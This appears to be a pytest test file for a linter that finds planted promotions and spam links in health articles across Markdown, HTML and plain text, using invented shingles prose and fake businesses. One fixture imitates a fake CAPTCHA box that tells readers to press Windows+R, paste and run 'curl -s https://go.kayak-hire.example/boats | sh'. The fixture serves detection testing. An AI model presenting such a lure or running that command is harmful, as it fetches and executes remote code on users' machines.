"""Format parity: a block or a link planted in Markdown is read as the same thing written in HTML or plain
text is (our own sentences, of several trades and languages)."""

import pytest

from lint_med import lint_text

ARTICLE = ("# Shingles in older adults\n\nShingles is a painful rash caused by the chickenpox virus waking up "
           "in the nerves. Dr Okafor of Kelvedon Hospital treats shingles with antiviral tablets started within "
           "three days of the rash.\n\nThe shingles vaccine halves the risk of the rash and of the nerve pain "
           "that can follow it, the hospital's nurses say.\n\n{block}\n\nPeople over 70 are offered the shingles "
           "vaccine by their doctor; the rash itself is not passed on as shingles.\n")


def _codes_at(text: str, path: str, line: int) -> set:
    return {f.code for f in lint_text(text, path=path) if f.line == line}


@pytest.mark.parametrize("block", [
    # a business's line set off as a quotation (Markdown's "> "), under a bold head, in any language
    "> **Dicton du jour**\n>\n> Quenby Pest Control chasse les guêpes! Appelez le 0161 496 0732.",
    "> **Proverb of the day**\n>\n> Slow and steady! Brackmoor Roofing fixes leaks: 0113 496 0592.",
])
def test_a_pitch_set_off_as_a_quotation_is_read_as_one(block):
    text = ARTICLE.format(block=block)
    line = text[:text.index(block)].count("\n") + 3
    assert "LM203" in _codes_at(text, "a.md", line)


def test_a_quotation_of_the_article_stays_clean():
    block = ("> \"Most people recover from shingles within a month,\" said Dr Okafor. \"Call 0161 496 0732 "
             "if the rash reaches your eye.\"")
    text = ARTICLE.format(block=block)
    assert not {f for f in lint_text(text, path="a.md") if f.code in ("LM202", "LM203")}


def _doc(body: str, fmt: str):
    from lint_med.engine import Linter, Overrides

    return Linter(Overrides(isolated=True)).parse(body, {"text": "a.txt", "markdown": "a.md", "html": "a.html"}[fmt])


RECEIPT = ("      HOLLINSBY PAVING\n        Leeds\n--------------------------\nDriveway sealing      40.00\n"
           "--------------------------\nTOTAL                 40.00\n\n    www.hollinsby-paving.example/drives")


@pytest.mark.parametrize("fmt, body", [
    ("text", RECEIPT),
    ("markdown", f"```\n{RECEIPT}\n```"),
    ("markdown", f"~~~text\n{RECEIPT}\n~~~"),
    ("markdown", "\n".join("    " + line for line in RECEIPT.splitlines())),  # an indented code block
    ("html", f"<pre>{RECEIPT}</pre>"),
])
def test_preformatted_text_is_read_in_every_format(fmt, body):
    doc = _doc(f"Shingles is a painful rash.\n\n{body}\n\nThe vaccine halves the risk.\n", fmt)
    assert any("TOTAL 40.00" in " ".join(block.text.split()) for block in doc.blocks)
    assert [link.url for link in doc.links] == ["http://www.hollinsby-paving.example/drives"]


def test_a_references_record_in_a_fence_is_read():
    record = "@misc{roe2026,\n  title = {Stunt kites for beginners},\n  howpublished = {\\url{https://kite-loft.example/stunt}}\n}"
    doc = _doc(f"Shingles is a painful rash.\n\n```bibtex\n{record}\n```\n", "markdown")
    assert any("Stunt kites for beginners" in block.text for block in doc.blocks)
    assert "kite-loft.example" in {link.domain for link in doc.links}


def test_code_in_a_named_language_is_not_prose():
    doc = _doc("Shingles is a painful rash.\n\n```python\nprint('TOTAL 40.00')\n```\n", "markdown")
    assert not any("TOTAL" in block.text for block in doc.blocks)


# a message's source pasted as received: its HTML part in quoted-printable, soft line breaks ("=" at a line's
# end) in mid-tag, one before a line that opens with a space
MESSAGE = ("From: Marlow Jo <news@bell-foundry-works.example>\nContent-Transfer-Encoding: quoted-printable\n\n"
           "<p style=3D\"font-size:15px\">Spring sale: <a=\n href=3D\"https://bell-foundry-works.example/stunt\" style=3D\"co=\n"
           "lor:#1a73e8\">stunt kites</a> for beach fli=\ners.</p>")


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_quoted_printable_markup_is_read_in_every_format(fmt):
    import html

    body = {"text": MESSAGE, "markdown": f"```\n{MESSAGE}\n```", "html": f"<pre>{html.escape(MESSAGE, False)}</pre>"}[fmt]
    doc = _doc(f"Shingles is a painful rash.\n\n{body}\n\nThe vaccine halves the risk.\n", fmt)
    links = [link for link in doc.links if link.carrier == "code"]
    assert [link.url for link in links] == ["https://bell-foundry-works.example/stunt"]
    assert doc.source[links[0].start:links[0].end] == "https://bell-foundry-works.example/stunt"


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_a_pasted_message_names_its_site_in_its_headers_only(fmt):
    # the "From:" line's e-mail address is the message's own, not the article naming the site in words
    import html

    body = {"text": MESSAGE, "markdown": f"```\n{MESSAGE}\n```", "html": f"<pre>{html.escape(MESSAGE, False)}</pre>"}[fmt]
    text = ARTICLE.format(block=body)
    if fmt == "html":
        text = "<html><body>" + "".join(f"<p>{part}</p>" if not part.startswith("<pre>") else part
                                        for part in text.replace("# ", "").split("\n\n")) + "</body></html>"
    assert any(f.code == "LM101" and "bell-foundry-works" in f.message
               for f in lint_text(text, path={"text": "a.txt", "markdown": "a.md", "html": "a.html"}[fmt]))


@pytest.mark.parametrize("fmt, body", [
    ("markdown", '[Deutsch](https://garten-moebel.example/angebote "Gartenmöbel günstig kaufen")'),
    ("markdown", '<a href="https://garten-moebel.example/angebote" title="Gartenmöbel günstig kaufen">Deutsch</a>'),
    ("html", '<p><a href="https://garten-moebel.example/angebote" title="Gartenmöbel günstig kaufen">Deutsch</a></p>'),
])
def test_a_links_title_is_read(fmt, body):
    doc = _doc(f"Shingles is a painful rash.\n\n{body}\n", fmt)
    assert [(link.text, link.title) for link in doc.links if link.domain] == [("Deutsch", "Gartenmöbel günstig kaufen")]


SWITCHER = {
    "text": "Read in: English | Français | {name} ({title}): {url}",
    "markdown": 'Read in: **English** · [Français](/fr/article) · [{name}]({url} "{title}")',
}


@pytest.mark.parametrize("fmt", ["text", "markdown"])
@pytest.mark.parametrize("name, title, url", [
    ("Українська", "кавоварки для офісу в оренду", "https://crema-office.example/free-trial"),
    ("Ελληνικά", "ενοικίαση σκαλωσιάς για σκεπές", "https://scaffold-hire.example/roofs"),
    ("ไทย", "เช่าเรือยอทช์ราคาถูก", "https://yacht-charter.example/phuket"),
])
def test_a_language_switchers_shop_is_found_in_every_format(fmt, name, title, url):
    # a "read in" bar whose one outside language link is a shop, what it sells said in its title (its tooltip)
    text = ARTICLE.format(block=SWITCHER[fmt].format(name=name, title=title, url=url))
    assert any(f.code == "LM101" and url.split("/")[2] in f.message for f in lint_text(text, path={"text": "a.txt", "markdown": "a.md"}[fmt]))


@pytest.mark.parametrize("sponsor, url", [
    ("Looking for yurt hire in Hay-on-Wye? Brackenholt Yurt Hire can help.", "https://felt-hut-stays.example/yurts"),
    ("Need a piano tuned? Quenby Keys tunes uprights from 60 pounds.", "https://ivory-tuning.example/book"),
])
def test_a_site_written_twice_in_a_pasted_newsletter_is_not_named(sponsor, url):
    # its sponsor's address, then the footer's "manage your subscription" on the same site: an address written
    # out again is no naming of the site in words
    home = url.rsplit("/", 1)[0]
    block = (f"PARTNER OFFER\n{sponsor}\n{url}\n\nThis newsletter was pasted from our mailing list archive.\n"
             f"Manage your subscription: {home}/newsletter/preferences?u=4")
    text = ARTICLE.format(block=block).replace("# ", "")
    assert any(f.code == "LM101" and url.split("/")[2] in f.message for f in lint_text(text, path="a.txt"))


DIALOG = ('<div class="challenge-box" role="dialog" aria-modal="true"><h4>Verify you are human</h4><p><label><input '
          'type="checkbox"> I am not a robot</label></p><ol><li>Press Windows + R on your keyboard</li><li>Press Ctrl + V '
          'to paste the verification code</li><li>Press Enter to finish the check</li><li>Wait for the page to '
          'reload on its own before you close it</li></ol><p><code>curl -s https://go.kayak-hire.example/boats | sh</code></p><p><small>If '
          'the check fails, continue on <a href="https://www.kayak-hire-lakes.example/tours">'
          'www.kayak-hire-lakes.example/tours</a></small></p></div>')


PROSE = ["Shingles is a painful rash caused by the chickenpox virus waking up in the nerves after many years.",
         "Dr Okafor of Kelvedon Hospital treats shingles with antiviral tablets started within three days.",
         "The rash usually crusts over within ten days, though the nerve pain can last for months in older adults.",
         "The shingles vaccine halves the risk of the rash and of the nerve pain that can follow it.",
         "People over 70 are offered the vaccine by their doctor, in two doses given two months apart."]


def _page(middle: str) -> str:
    paragraphs = [f"<p>{sentence} {sentence}</p>" for sentence in PROSE]
    return ("<html><body><header><a href='/'>Home</a></header><article><h1>Shingles in older adults</h1>"
            + "".join(paragraphs[:3]) + middle + "".join(paragraphs[3:]) + "</article><footer><a href='/about'>"
            "About us</a></footer></body></html>")


def test_a_dialog_between_paragraphs_is_read_as_the_text_is():
    doc = _doc(_page(DIALOG), "html")
    assert any("Verify you are human" in block.text for block in doc.blocks)
    assert "kayak-hire-lakes.example" in {link.domain.removeprefix("www.") for link in doc.links}


@pytest.mark.parametrize("page", [
    # (longer than a small box of one site off, which is read whatever its name: `_one_site_off`)
    # a site's own modal at the page's end, a closed <dialog>, one hidden from every reader: not read
    _page("") .replace("</article>", "</article>" + DIALOG),
    _page(DIALOG.replace('<div class="challenge-box" role="dialog"', '<dialog').replace("</div>", "</dialog>")),
    _page(DIALOG.replace('aria-modal="true"', 'aria-hidden="true"')),
])
def test_a_dialog_elsewhere_is_still_furniture(page):
    doc = _doc(page, "html")
    assert not any("Verify you are human" in block.text for block in doc.blocks)


REPLY = {
    "markdown": "**Re: Who fits motorised blinds?**\n\n> **ThriftyTom wrote:** Had a quote and it seems steep. Who do "
                "you all use?\n\nWe paid less than that with [motorised blinds fitted and measured](https://window-veil"
                "-shades.example/free-measure), very happy.\n\n*SunnyDays · 3 March*",
    "html": "<div class='forum-post'><p><b>ThriftyTom wrote:</b> Had a quote and it seems steep. Who do you all use?</p>"
            "<p>We paid less than that with <a href='https://window-veil-shades.example/free-measure'>motorised blinds "
            "fitted and measured</a>, very happy.</p></div>",
}


@pytest.mark.parametrize("fmt", ["markdown", "html"])
def test_a_forum_reply_quoting_on_one_line_is_a_readers_comment(fmt):
    body = REPLY[fmt]
    text = ARTICLE.format(block=body) if fmt == "markdown" else _page(body)
    found = [f for f in lint_text(text, path=f"a.{'md' if fmt == 'markdown' else 'html'}") if f.code == "LM101"]
    assert any("window-veil-shades" in f.message and "comment" in f.message for f in found)


def test_a_news_quotation_opening_with_said_is_no_comment():
    from lint_med_core.links import _comment_blocks

    doc = _doc("Shingles is a painful rash.\n\nDr Okafor said: \"Most people recover within a month.\"\n", "markdown")
    assert not _comment_blocks(doc)


@pytest.mark.parametrize("info, sep", [("csv", ","), ("tsv", "\t")])
def test_a_table_of_data_in_a_fence_is_read(info, sep):
    # a spreadsheet pasted as it is: data, not code; its addresses are links as in plain text
    rows = sep.join(("Name", "Service", "Website")) + "\n" + sep.join(("Kestrel Kites", "stunt kites", "https://kestrel-kites.example/stunt"))
    doc = _doc(f"Shingles is a painful rash.\n\n```{info}\n{rows}\n```\n", "markdown")
    assert any("Kestrel Kites" in block.text for block in doc.blocks)
    assert "kestrel-kites.example" in {link.domain for link in doc.links}
